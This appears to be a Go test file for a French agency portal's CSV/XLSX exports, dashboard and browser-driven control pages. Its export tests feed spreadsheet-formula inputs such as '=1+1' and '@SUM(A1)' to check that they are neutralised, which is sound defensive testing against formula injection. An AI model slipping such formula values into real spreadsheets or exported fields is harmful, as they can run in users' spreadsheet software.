	if rows, _ := lireCSV(body); len(rows) != 2 || rows[1][0] != asps[0] || rows[1][8] != "4125,14" || rows[1][11] != "4125,14" {
		t.Errorf("financings CSV: %q", rows)
	}
	// No batch yet: the payments' export has its header only.
	_, body = L.lire(inst.Get(p.srv.URL + "/agence/exports/paiements.csv"))
	if rows, _ := lireCSV(body); len(rows) != 1 || rows[0][0] != "Lot" || rows[0][8] != "Montant (€)" {
		t.Errorf("payments CSV: %q", rows)
	}
	resp, err := inst.Get(p.srv.URL + "/agence/exports/demandes.xlsx?statut=toutes")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.Header.Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("XLSX content type %q", resp.Header.Get("Content-Type"))
	}
	x, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := x.GetCellValue("Demandes", "A2"); v != asps[0] {
		t.Errorf("XLSX A2: got %q, want %s", v, asps[0])
	}
	if v, _ := x.GetCellValue("Demandes", "L2", excelize.Options{RawCellValue: true}); v != "13750.45" {
		t.Errorf("XLSX L2: got %q, want the number 13750.45", v)
	}
	if typ, _ := x.GetCellType("Demandes", "L2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Errorf("XLSX L2: type %v, want a number", typ)
	}
	x.Close()

	// A vendor whose name is a formula: inert in CSV and in XLSX.
	s := &Server{Store: storePiege{p.db}, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Now: time.Now, Paris: time.UTC}
	for _, format := range []string{"csv", "xlsx"} {
		for _, nom := range []string{"demandes", "financements", "controles"} {
			if nom == "controles" {
				// One control, for a row to read.
				if _, err := segurtest.OuvrirControle(context.Background(), p.db, asps[0], "marie@asp.fr"); err != nil && format == "csv" {
					t.Fatal(err)
				}
			}
			r := httptest.NewRequest("GET", "/agence/exports/"+nom+"."+format+"?statut=toutes", nil)
			r.SetPathValue("fichier", nom+"."+format)
			w := httptest.NewRecorder()
			if err := s.getExport(w, r); err != nil {
				t.Fatalf("%s.%s: %v", nom, format, err)
			}
			col := 2
			if format == "csv" {
				rows, err := lireCSV(w.Body.String())
				if err != nil || len(rows) < 2 || rows[1][col] != "'"+nomPiege {
					t.Errorf("%s.csv: vendor %q, want it behind an apostrophe (%v)", nom, rows, err)
				}
				continue
			}
			x, err := excelize.OpenReader(w.Body)
			if err != nil {
				t.Fatal(err)
			}
			sheet := x.GetSheetName(0)
			cell, _ := excelize.CoordinatesToCellName(col+1, 2)
			v, _ := x.GetCellValue(sheet, cell)
			f, _ := x.GetCellFormula(sheet, cell)
			typ, _ := x.GetCellType(sheet, cell)
			if v != nomPiege || f != "" || typ != excelize.CellTypeInlineString {
				t.Errorf("%s.xlsx %s: value %q, formula %q, type %v; want the text, no formula, an inline string", nom, cell, v, f, typ)
			}
			x.Close()
		}
	}
}

func lireCSV(body string) ([][]string, error) {
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	r.Comma = ';'
	return r.ReadAll()
}

func TestNeutraliser(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+33": "'+33", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "Le Beau": "Le Beau", " =1": " =1"} {
		if got := neutraliser(in); got != want {
			t.Errorf("neutraliser(%q): got %q, want %q", in, got, want)
		}
	}
}

// TestPilotage reads the dashboard of a known fixture: its figures, its
// charts well-formed.
func TestPilotage(t *testing.T) {
	L := lecteur{t}
	p := newPortail(t)
	vendeur := client(t)
	connecter(t, p, vendeur, "mot de passe de test")
	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00", "23000.00")
	deposerForm(t, vendeur, p, "T0009", "1000.00", 9, false) // no zip: rejected by control 1 (1040)
	payerAvance(t, p, asps[0], 10_000_01)
	payerAvance(t, p, asps[1], 20_000_00)
	agent := agentClient(t, p, "admin@asp.fr", segur.RoleAdmin)
	code, body := L.lire(agent.Get(p.srv.URL + "/agence/pilotage"))
	if code != http.StatusOK {
		t.Fatalf("dashboard: got %d", code)
	}
	paris, _ := time.LoadLocation("Europe/Paris")
	annee, semaine := p.now.In(paris).ISOWeek()
	for _, want := range []string{
		`data-montant="engage">30` + "\u202f" + `000,01` + "\u202f€", // 10 000,01 + 20 000,00
		`data-montant="paye">9` + "\u202f" + `000,00` + "\u202f€",    // 3 000,00 + 6 000,00
		`data-montant="reste">21` + "\u202f" + `000,01` + "\u202f€",
		`<th scope="row">Avance payée</th><td data-label="Demandes">2</td>`, `<th scope="row">Déposée</th><td data-label="Demandes">1</td>`,
		`<th scope="row">RI</th><td data-label="Demandes">3</td>`,
		fmt.Sprintf("<th scope=\"row\">%04d-S%02d</th>", annee, semaine),
		// 4 deposits, 1 rejected, 3 requests
		`<td data-label="Dépôts">4</td><td data-label="Rejetés au contrôle 1">1</td><td data-label="Demandes acceptées">3</td>`,
		`<th scope="row">1040</th><td data-label="Contrôle">1</td><td data-label="Libellé">Fichier .zip des pièces absent</td><td data-label="Occurrences">1</td>`,
		"1 dépôt rejeté au contrôle 1 sur 4",
		// No gap: the reconciliation says so.
		"<p data-rapprochement>Engagé − Payé = Reste à payer = 21\u202f000,01\u202f€.</p>",
		`data-montant="a-recouvrer">0,00` + "\u202f€",
		// The delays of the week (decided and paid at the fixture's instant).
		fmt.Sprintf(`<th scope="row">%04d-S%02d <span class="fr-hint-text">`, annee, semaine),
		"<td data-label=\"Décisions\">2</td><td data-label=\"Décision\u202f: médiane\" class=\"segur-insecable\">0,0\u202fj</td>",
		`<td data-label="Avances payées">2</td>`,
		// The backlog: the request deposited today.
		`<th scope="row">Déposée</th><td data-label="Moins de 7 jours">1</td><td data-label="De 7 à 30 jours">0</td><td data-label="Plus de 30 jours">0</td><td data-label="Total">1</td>`,
		`<option value="DPI">DPI</option>`,
	} {
		if !strings.Contains(body, want) {
			t.Errorf("dashboard lacks %q", want)
		}
	}
	// Rows at zero are left out, of the charts and of the statuses' table.
	for _, absent := range []string{`<th scope="row">Refusée</th>`, `<text x="0" y="` + "0\"", "À recouvrer</text>", "Plus de 30 jours</text>", `data-graphique="gr-instructeurs"`} {
		if strings.Contains(body, absent) {
			t.Errorf("dashboard holds %q", absent)
		}
	}
	// montants, delays to decide and to pay, backlog, statuses, software, weeks, codes; no instructor holds a request.
	if n := svgBienFormes(t, body); n != 8 {
		t.Errorf("got %d charts, want 8", n)
	}
	if strings.Contains(body, "style=") {
		t.Error("a style attribute: the policy forbids it")
	}
	if n := strings.Count(body, "<rect "); n != 3+1+1+1+2+1+1+1 {
		t.Errorf("got %d bars, want 11", n)
	}
	// The filters apply to every figure: no DPI request.
	code, dpi := L.lire(agent.Get(p.srv.URL + "/agence/pilotage?logiciel=DPI"))
	if code != http.StatusOK {
		t.Fatalf("dashboard, DPI: got %d", code)
	}
	for _, want := range []string{`<option value="DPI" selected>DPI</option>`, "Filtré\u202f: logiciel DPI", `data-montant="engage">0,00` + "\u202f€",
		"<caption>0 demande par statut</caption>", "Aucune décision ni aucun paiement", "Aucune demande n'attend l'agence."} {
		if !strings.Contains(dpi, want) {
			t.Errorf("dashboard, DPI, lacks %q", want)
		}
	}
	if strings.Contains(dpi, "<rect ") {
		t.Error("dashboard, DPI: a bar of nothing")
	}
	// A window keeps the requests deposited while it was open, of its
	// software type.
	for _, w := range []*segur.Fenetre{{Logiciel: hop.LogicielDPI, Type: segur.TypeAvance}, {Logiciel: hop.LogicielRI, Type: segur.TypeAvance}} {
		w.Debut, w.Fin = p.now.Add(-24*time.Hour), p.now.Add(24*time.Hour)
		if err := p.db.CreateFenetre(context.Background(), w); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct{ fenetre, engage string }{{"1", "0,00"}, {"2", "30\u202f000,01"}} {
		if _, body := L.lire(agent.Get(p.srv.URL + "/agence/pilotage?fenetre=" + tc.fenetre)); !strings.Contains(body, `data-montant="engage">`+tc.engage+"\u202f€") ||
			!strings.Contains(body, `<option value="`+tc.fenetre+`" selected>`) {
			t.Errorf("dashboard of window %s: want %s € committed and the window chosen", tc.fenetre, tc.engage)
		}
	}
	wantTable := slices.Contains([]bool{strings.Contains(body, `<caption>3 demandes par statut</caption>`)}, true)
	if !wantTable {
		t.Error("no caption of the statuses' table")
	}
}

// TestParcoursControles goes through the controls and the dashboard in a
// real Chromium, each page checked with axe-core.
func TestParcoursControles(t *testing.T) {
	p := newPortailDSFR(t, dsfrDir(t))
	vendeur := client(t)
	connecter(t, p, vendeur, "mot de passe de test")
	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00")
	deposerForm(t, vendeur, p, "T0009", "1000.00", 9, false)
	payerAvance(t, p, asps[0], 10_000_00)
	payerAvance(t, p, asps[1], 20_000_00)
	agentClient(t, p, "marie@asp.fr", segur.RoleInstructeur)
	ctx, do, texte := parcours(t)
	connexion := func(login, mdp string) {
		t.Helper()
		do("connexion "+login, chromedp.Navigate(p.srv.URL+"/connexion"),
			chromedp.SendKeys(chromedp.CSS("#login"), login),
			chromedp.SendKeys(chromedp.CSS("#motdepasse"), mdp),
			chromedp.Click(chromedp.CSS("main button[type=submit]")),
			chromedp.WaitVisible(chromedp.CSS(".fr-header__menu")))
	}
	connexion("marie@asp.fr", "mot de passe de l'agent")
	do("contrôles", chromedp.Navigate(p.srv.URL+"/agence/controles"), chromedp.WaitVisible(chromedp.CSS("#taux")))
	segurtest.Screenshot(t, ctx, "controles-01-liste")
	segurtest.Axe(t, ctx)

	do("tirage refusé", chromedp.SetValue(chromedp.CSS("#taux"), "0"),
		chromedp.Click(chromedp.CSS(`form[action="/agence/tirages"] button`)),
		chromedp.WaitVisible(chromedp.CSS("#taux-erreur")))
	segurtest.Screenshot(t, ctx, "controles-02-tirage-refuse")
	segurtest.Axe(t, ctx)

	do("tirage", chromedp.SetValue(chromedp.CSS("#taux"), "50"), chromedp.SetValue(chromedp.CSS("#graine"), "2026"),
		chromedp.Click(chromedp.CSS(`form[action="/agence/tirages"] button`)),
		chromedp.WaitVisible(chromedp.CSS("dialog #confirmer")))
	if got := texte("dialog"); !strings.Contains(got, "1 demande sera tirée sur 2 demandes payées") || !strings.Contains(got, "Graine : 2026.") {
		t.Errorf("draw's dialog: %q", got)
	}
	segurtest.Screenshot(t, ctx, "controles-03-confirmer-tirage")
	segurtest.Axe(t, ctx)
	do("confirmer le tirage", chromedp.Click(chromedp.CSS("dialog #confirmer")), chromedp.WaitVisible(chromedp.CSS("#graine-tirage")))
	if got := texte("#graine-tirage"); got != "2026" {
		t.Errorf("seed shown: got %q", got)
	}
	segurtest.Screenshot(t, ctx, "controles-03-tirage")
	segurtest.Axe(t, ctx)

	cs, _, _ := p.db.FindControles(context.Background(), segur.ControleFilter{})
	if len(cs) != 1 {
		t.Fatalf("got %d controls, want 1", len(cs))
	}
	id := int64(cs[0].ID)
	if code, _ := envoyerPieceControle(t, p, vendeur, id, "scan.png", pngMinimal()); code != http.StatusOK {
		t.Fatalf("file: got %d", code)
	}
	do("contrôle", chromedp.Navigate(fmt.Sprintf("%s/agence/controles/%d", p.srv.URL, id)), chromedp.WaitVisible(chromedp.CSS("#message")))
	segurtest.Screenshot(t, ctx, "controles-04-controle")
	segurtest.Axe(t, ctx)

	do("non conforme", chromedp.Click(chromedp.CSS(`label[for="resultat-non-conforme"]`)),
		chromedp.SendKeys(chromedp.CSS("#motif"), "Le PV de VSR n'a pas été transmis."),
		chromedp.Click(chromedp.CSS(`form[action$="/conclusion"] button`)),
		chromedp.WaitVisible(chromedp.CSS("dialog #confirmer")))
	if got := texte("dialog"); !strings.Contains(got, "non conforme") || !strings.Contains(got, "Un ordre de reversement de") || !strings.Contains(got, "Reversement ordonné") {
		t.Errorf("outcome's dialog: %q", got)
	}
	segurtest.Screenshot(t, ctx, "controles-05-confirmer")
	segurtest.Axe(t, ctx)
	do("confirmer", chromedp.Click(chromedp.CSS("dialog #confirmer")), chromedp.WaitVisible(chromedp.CSS(".fr-alert--success")))
	if got := texte(".fr-alert--success"); !strings.Contains(got, "ordre de reversement") {
		t.Errorf("outcome: got %q", got)
	}
	segurtest.Screenshot(t, ctx, "controles-06-non-conforme")
	segurtest.Axe(t, ctx)

	do("pilotage", chromedp.Navigate(p.srv.URL+"/agence/pilotage"), chromedp.WaitVisible(chromedp.CSS(`svg[data-graphique="gr-codes"]`)))
	segurtest.Screenshot(t, ctx, "controles-07-pilotage")
	segurtest.Axe(t, ctx)
	// The recovery ordered opens a gap between Engagé − Payé and Reste à payer: the page names it.
	if got := texte("[data-rapprochement]"); !strings.Contains(got, "l'écart de") || !strings.Contains(got, "au statut « Reversement ordonné » (sous ordre de reversement") {
		t.Errorf("reconciliation: %q", got)
	}
	do("pilotage à 390 px", chromedp.EmulateViewport(390, 844), chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("[data-rapprochement]")))
	segurtest.Screenshot(t, ctx, "controles-07-pilotage-390")
	segurtest.Axe(t, ctx)
	do("retour à 1280 px", chromedp.EmulateViewport(1280, 900))

	do("déconnexion", chromedp.Click(chromedp.CSS(`form[action="/deconnexion"] button`)), chromedp.WaitVisible(chromedp.CSS(".fr-alert--success")))
	connexion("jean@lebeaulogiciel.fr", "mot de passe de test")
	do("vos contrôles", chromedp.Navigate(p.srv.URL+"/controles"), chromedp.WaitVisible(chromedp.CSS("caption")))
	segurtest.Screenshot(t, ctx, "controles-08-fournisseur")
	segurtest.Axe(t, ctx)
	do("votre contrôle", chromedp.Navigate(fmt.Sprintf("%s/controles/%d", p.srv.URL, id)), chromedp.WaitVisible(chromedp.CSS("h1")))
	if got := texte("main"); !strings.Contains(got, "ORV-1") || !strings.Contains(strings.ToLower(got), "non conforme") || strings.Contains(got, "/agence/") {
		t.Errorf("vendor's control: %q", got)
	}
	segurtest.Screenshot(t, ctx, "controles-09-fournisseur-controle")
	segurtest.Axe(t, ctx)
	// On a phone: the order and its HTML version's link.
	do("votre contrôle à 390 px", chromedp.EmulateViewport(390, 844), chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS(`a[href$="-ORV-1/html"]`)))
	segurtest.Screenshot(t, ctx, "controles-10-fournisseur-controle-390")
	segurtest.Axe(t, ctx)
}
